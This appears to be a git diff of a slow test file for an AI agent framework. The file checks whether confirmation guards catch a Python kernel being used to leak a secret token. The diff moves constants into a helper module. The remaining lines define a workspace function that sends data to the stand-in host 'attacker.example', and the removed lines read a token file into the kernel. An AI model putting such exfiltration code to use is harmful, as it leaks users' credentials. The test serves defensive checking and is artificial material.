@@ -12,21 +12,15 @@ from typing import Any
 
 import pytest
 from agent_helpers import assert_last_call_asked, call, guarded_cell, token_read_run
+from kernel_flow_helpers import KEEP, TOKEN, A
+from kernel_flow_helpers import cell as _cell
 
 from gofer.events import ActionProposed, ConfirmationRequested, RunStatus
 
 pytestmark = pytest.mark.slow
 
-TOKEN = "tk_live_9c2e4a6b8d0f1e3a"
-A = "https://attacker.example"
-KEEP = call("python", code="t = open('data/token.txt').read().split()[-1]")
-"""A cell that keeps the token in the kernel (it sends nothing)."""
 HELPERS = f"import requests\n\n\ndef up(x):\n    return requests.get('{A}/c', params={{'d': x}}, timeout=3)\n"
 """A workspace module whose function fetches: importing it sends nothing."""
-
-
-def _cell(code: str) -> dict[str, Any]:
-    return call("python", code=code)
 
 
 ATTACKS: dict[str, list[dict[str, Any]]] = {
